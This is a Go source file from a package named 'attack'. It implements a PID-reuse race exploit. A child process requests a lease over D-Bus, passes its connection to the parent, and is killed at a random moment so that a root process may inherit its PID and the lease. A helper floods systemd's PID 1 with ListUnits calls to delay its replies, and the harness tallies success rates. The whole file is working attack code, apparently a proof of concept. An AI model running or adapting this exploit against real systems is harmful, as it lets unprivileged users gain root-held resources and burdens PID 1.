package attack

import (
	"bufio"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"strconv"
	"sync"
	"time"

	"github.com/godbus/dbus/v5"
	"golang.org/x/sys/unix"
)

const timedReplies = 5

// Reuse tries several times to get a lease for a process of root by a user's request. A
// process of the user requests a lease and is killed at a random moment before the reply.
// Then a process of root gets its PID. Reuse prints the number of trials by their result.
func Reuse(uid, gid, group, tries string, out io.Writer) error {
	ids := make([]int, 4)
	for i, text := range []string{uid, gid, group, tries} {
		var err error
		if ids[i], err = strconv.Atoi(text); err != nil {
			return err
		}
	}
	stop := make(chan struct{})
	var busy sync.WaitGroup
	busy.Go(func() { keepBusy(stop) })
	defer busy.Wait()
	defer close(stop)
	u := user{uid: uint32(ids[0]), gid: uint32(ids[1]), group: uint32(ids[2])}
	var mean time.Duration // of the time until a reply
	for range timedReplies {
		if _, err := u.reuse(func(conn net.Conn) {
			began := time.Now()
			_ = awaitReply(bufio.NewReader(conn), acquireSerial)
			mean += time.Since(began) / timedReplies
		}); err != nil {
			return err
		}
	}
	count := make(map[string]int)
	for range ids[3] {
		result, err := u.reuse(func(net.Conn) {
			time.Sleep(rand.N(mean + mean/4)) // the moment of the kill is what varies
		})
		if err != nil {
			return err
		}
		count[result]++
	}
	_, err := fmt.Fprintln(out, count, "mean time of a reply:", mean)
	return err
}

// Request is the child process of [Reuse]. It sends its connection to its parent over
// descriptor 3, requests a lease when the parent writes a byte, and then writes one itself.
func Request() error {
	a, err := connect()
	if err != nil {
		return err
	}
	file, err := a.Conn.(*net.UnixConn).File()
	if err != nil {
		return err
	}
	if err := unix.Sendmsg(3, []byte{0}, unix.UnixRights(int(file.Fd())), nil, 0); err != nil {
		return err
	}
	if _, err := unix.Read(3, make([]byte, 1)); err != nil {
		return err
	}
	if err := a.acquire(map[string]dbus.Variant{"time": dbus.MakeVariant(uint64(60_000_000))}); err != nil {
		return err
	}
	if _, err := unix.Write(3, []byte{0}); err != nil {
		return err
	}
	_, err = unix.Read(3, make([]byte, 1)) // until SIGKILL
	return err
}

// keepBusy makes calls on PID 1 that every user may make, so that it replies late.
func keepBusy(stop <-chan struct{}) {
	conn, err := dbus.ConnectSystemBus()
	if err != nil {
		return
	}
	defer conn.Close()
	for {
		select {
		case <-stop:
			return
		default:
			conn.Object("org.freedesktop.systemd1", "/org/freedesktop/systemd1").Call("org.freedesktop.systemd1.Manager.ListUnits", 0)
		}
	}
}
